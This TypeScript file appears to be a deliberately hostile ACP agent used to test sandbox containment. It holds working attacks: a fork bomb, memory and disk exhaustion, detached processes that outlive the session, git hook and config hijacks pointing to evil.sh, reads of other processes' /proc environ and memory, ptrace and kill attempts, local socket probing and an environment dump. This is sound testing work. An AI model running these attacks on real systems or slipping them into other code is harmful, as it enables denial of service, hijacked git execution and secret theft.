import { execFile, spawn } from 'node:child_process'
import { once } from 'node:events'
import { appendFileSync, mkdirSync, readdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs'
import { connect } from 'node:net'
import path from 'node:path'
import { createInterface } from 'node:readline'

/**
 * An ACP agent that tries to do harm, by hand and from this one file, so that nothing but Node has to be in its sandbox. A prompt names
 * what it tries, `[[name]]` or `[[name ["argument", …]]]`, and is answered with what came of it: `where` it is, a `line` of so many MB, `rubbish`, `deaf`,
 * `forks`, `bomb`, `eat`, `fill`, `git`, `read`, `write`, `link`, `processes`, `connect`, `look`. Anything else is answered with `fine`.
 */
type Params = Record<string, unknown>
type Answer = { result?: unknown; error?: unknown }

const waiting = new Map<number, (answer: Answer) => void>()
let sessionId = ''
let worktree = ''
let asked = 0

const print = (message: object) => process.stdout.write(`${JSON.stringify({ jsonrpc: '2.0', ...message })}\n`)
const say = (text: string) =>
  print({
    method: 'session/update',
    params: { sessionId, update: { sessionUpdate: 'agent_message_chunk', content: { type: 'text', text } } },
  })
const ask = (method: string, params: object) =>
  new Promise<Answer>((resolve) => {
    waiting.set(++asked, resolve)
    print({ id: asked, method, params: { sessionId, ...params } })
  })
const forever = () => new Promise<never>(() => undefined)
const words = (error: unknown) => (error instanceof Error ? error.message : String(error))
const tried = async (what: string, attempt: () => unknown) => {
  try {
    return `${what}: ${String(await attempt())}\n`
  } catch (error) {
    return `${what}: refused, ${words(error)}\n`
  }
}
const run = (command: string, args: string[]) =>
  new Promise<string>((resolve) => {
    const child = execFile(command, args, { timeout: 20_000 }, (error, stdout, stderr) =>
      resolve(`${stdout}${stderr}${error ? ` (${error.code ?? error.signal})` : ''}`),
    )
    child.stdin?.end()
  })

const attempts: Record<string, (...given: string[]) => Promise<string> | string> = {
  // Encoded: paths are shortened in what a chat shows.
  where: () => Buffer.from(JSON.stringify({ worktree, home: process.env.HOME })).toString('base64'),
  async line(megabytes = '40') {
    const piece = 'x'.repeat(1024 * 1024)
    for (let written = 0; written < Number(megabytes); written++)
      if (!process.stdout.write(piece)) await once(process.stdout, 'drain')
    process.stdout.write('\n')
    return 'printed'
  },
  rubbish() {
    process.stdout.write('{"jsonrpc":"2.0","method":5}\n[1,2\n\u0000\u0001\n{"id":4711,"result":{}}\n"text"\n\n')
    print({ method: 'session/update', params: { sessionId, update: { sessionUpdate: 'never_heard_of', x: 1 } } })
    print({ method: 'session/update', params: 'nothing' })
    return 'printed'
  },
  async deaf() {
    say('I do not listen')
    return await forever()
  },
  async forks() {
    for (const command of [
      'setsid sleep 4711',
      'env -i setsid sleep 4711',
      '(setsid sh -c "sleep 4711 & exit" &)',
      'trap "" TERM; while :; do sleep 4711; done',
    ])
      spawn('sh', ['-c', command], { detached: true, stdio: ['ignore', 'inherit', 'inherit'] }).unref()
    say('leaving')
    await run('sleep', ['0.5'])
    return process.exit(0)
  },
  async bomb(most = '2000') {
    const script = `i=0; while [ $i -lt ${Number(most)} ]; do sleep 4711 & i=$((i+1)); done; wait`
    say('exploding')
    spawn('sh', ['-c', script], { stdio: 'ignore' })
    return await forever()
  },
  async eat(megabytes = '1500') {
    say('eating')
    const eaten: Buffer[] = []
    while (eaten.length < Number(megabytes)) {
      eaten.push(Buffer.alloc(1024 * 1024, eaten.length))
      if (eaten.length % 16 === 0) await new Promise(setImmediate)
    }
    return await forever()
  },
  async fill(megabytes = '512') {
    const piece = Buffer.alloc(1024 * 1024, 7)
    const folder = path.join(process.env.HOME ?? '.', 'junk')
    mkdirSync(folder, { recursive: true })
    say('filling')
    for (let written = 0; written < Number(megabytes); written++)
      appendFileSync(path.join(folder, `part-${written % 20}`), piece)
    return await forever()
  },
  async git(proof = '') {
    const git = path.join(worktree, '.git')
    const evil = path.join(worktree, 'evil.sh')
    writeFileSync(evil, `#!/bin/sh\necho "$0 $*" >> ${proof}\ncat\n`, { mode: 0o755 })
    mkdirSync(path.join(git, 'hooks'), { recursive: true })
    for (const hook of ['pre-commit', 'post-index-change', 'post-checkout', 'reference-transaction', 'pre-auto-gc'])
      for (const folder of [path.join(git, 'hooks'), worktree])
        writeFileSync(path.join(folder, hook), readFileSync(evil), { mode: 0o755 })
    const sections = [
      `[core]\n\tfsmonitor = ${evil}\n\thooksPath = ${worktree}\n\tpager = ${evil}\n\tsshCommand = ${evil}\n\teditor = ${evil}`,
      `[filter "evil"]\n\tclean = ${evil}\n\tsmudge = ${evil}\n\tprocess = ${evil}\n\trequired = true`,
      `[diff "evil"]\n\tcommand = ${evil}\n\ttextconv = ${evil}`,
      `[diff]\n\texternal = ${evil}`,
      `[alias]\n\tadd = !${evil}\n\tdiff = !${evil}\n\twrite-tree = !${evil}`,
      `[include]\n\tpath = ${path.join(worktree, 'more.config')}`,
    ]
    appendFileSync(path.join(git, 'config'), `${sections.join('\n')}\n`)
    writeFileSync(path.join(worktree, 'more.config'), `[credential]\n\thelper = !${evil}\n`)
    writeFileSync(path.join(worktree, '.gitattributes'), '* filter=evil diff=evil merge=evil\n')
    mkdirSync(path.join(git, 'info'), { recursive: true })
    writeFileSync(path.join(git, 'info', 'attributes'), '* filter=evil diff=evil\n')
    writeFileSync(path.join(worktree, 'changed.txt'), 'changed by the agent\n')
    const own = await run('git', ['-C', worktree, 'add', 'changed.txt'])
    return `planted ${own}`
  },
  async read(...files) {
    let said = ''
    for (const file of files) {
      said += await tried(`own ${file}`, () => readFileSync(file, 'latin1'))
      const answer = await ask('fs/read_text_file', { path: file })
      said += `asked ${file}: ${JSON.stringify(answer.result ?? answer.error)}\n`
    }
    return said
  },
  async write(...files) {
    let said = ''
    for (const file of files) {
      said += await tried(`own ${file}`, () => writeFileSync(file, 'by the hostile agent'))
      const answer = await ask('fs/write_text_file', { path: file, content: 'by the hostile agent, asked' })
      said += `asked ${file}: ${JSON.stringify(answer.result ?? answer.error)}\n`
    }
    return said
  },
  link: (target = '', name = '') => tried('link', () => symlinkSync(target, path.join(worktree, name))),
  async processes(...ids) {
    let said = `sees ${readdirSync('/proc').filter((name) => /^\d+$/.test(name)).length} processes\n`
    for (const id of ids) {
      said += await tried(`kill ${id}`, () => process.kill(Number(id), 'SIGKILL'))
      for (const file of ['environ', 'mem', 'root/etc/hostname', 'cwd/x'])
        said += await tried(`${file} of ${id}`, () => readFileSync(`/proc/${id}/${file}`, 'latin1'))
      const attach = `print syscall(101, 16, ${Number(id)}, 0, 0), " $!"`
      said += `ptrace ${id}: ${await run('perl', ['-e', attach])}\n`
    }
    return said
  },
  async connect(...addresses) {
    let said = ''
    for (const address of addresses) said += await tried(`connect ${address}`, () => talk(address))
    return said
  },
  look(...markers) {
    const wanted = markers.map((marker) => Buffer.from(marker, 'base64'))
    let bytes = 0
    let files = 0
    const found: string[] = []
    const walk = (folder: string, depth: number): void => {
      for (const entry of list(folder)) {
        const file = path.join(folder, entry.name)
        if (entry.isDirectory()) {
          if (
            depth < 12 &&
            !/^\/(usr|proc\/sys|dev\/fd|nix|gnu)$|\/node_modules\/|^\/proc\/\d+\/(task|root|cwd|fd|map_files|net|attr)$/.test(
              file,
            )
          )
            walk(file, depth + 1)
        } else if (entry.isFile() && files < 50_000 && !/^\/proc\/(k|\d+\/(mem|pagemap|clear_refs)$)/.test(file)) {
          const content = contentOf(file)
          files++
          bytes += content.length
          for (const [at, marker] of wanted.entries()) if (content.includes(marker)) found.push(`${at} in ${file}`)
        }
      }
    }
    walk('/', 0)
    const environment = JSON.stringify(process.env)
    return `environment ${environment}\nlooked into ${files} files, ${bytes} bytes\nfound ${JSON.stringify(found)}\n`
  },
}

function list(folder: string) {
  try {
    return readdirSync(folder, { withFileTypes: true })
  } catch {
    return []
  }
}

function contentOf(file: string): Buffer {
  try {
    // A device is a file to who only lists its folder.
    const stats = statSync(file)
    return !stats.isFile() || stats.size > 4 * 1024 * 1024 ? Buffer.alloc(0) : readFileSync(file)
  } catch {
    return Buffer.alloc(0)
  }
}

/** What somebody answers who is asked over HTTP, or says by himself: a path is a Unix socket, else `port/path`. */
function talk(address: string): Promise<string> {
  return new Promise((resolve, reject) => {
    const [port = '', ...rest] = address.split('/')
    const socket = address.startsWith('/') ? connect(address) : connect(Number(port), '127.0.0.1')
    let heard = ''
    socket.setTimeout(3000, () => socket.destroy())
    socket.on('error', reject)
    socket.on('connect', () => socket.write(`GET /${rest.join('/')} HTTP/1.0\r\nhost: localhost\r\n\r\n`))
    socket.on('data', (chunk) => {
      heard = (heard + chunk.toString('latin1')).slice(0, 4000)
    })
    socket.on('close', () => resolve(`connected, heard ${JSON.stringify(heard)}`))
  })
}

async function prompt(text: string): Promise<object> {
  // The last one: a conversation may be told again in front of it.
  const [, name = '', given = '[]'] = [...text.matchAll(/\[\[(\w+) ?(\[[^\]]*\])?\]\]/g)].at(-1) ?? []
  const attempt = attempts[name] ?? (() => 'fine')
  say(await attempt(...(JSON.parse(given) as string[])))
  return { stopReason: 'end_turn' }
}

async function answer(method: string, params: Params): Promise<unknown> {
  if (method === 'initialize') return { protocolVersion: 1, agentInfo: { name: 'hostile', version: '6.6.6' } }
  if (method === 'session/new') {
    worktree = String(params.cwd)
    sessionId = `hostile-${process.pid}`
    return { sessionId }
  }
  if (method === 'session/prompt')
    return await prompt((params.prompt as { text?: string }[]).map((block) => block.text ?? '').join('\n'))
  throw { code: -32601, message: `Method not found: ${method}` }
}

async function hear(line: string): Promise<void> {
  const { id, method, params, result, error } = JSON.parse(line)
  if (!method) return waiting.get(id)?.({ result, error })
  if (id === undefined) return
  await answer(method, params).then(
    (given) => print({ id, result: given }),
    (fault) => print({ id, error: fault instanceof Error ? { code: -32603, message: fault.message } : fault }),
  )
}

createInterface({ input: process.stdin })
  .on('line', (line) => void hear(line))
  .on('close', () => process.exit(0))
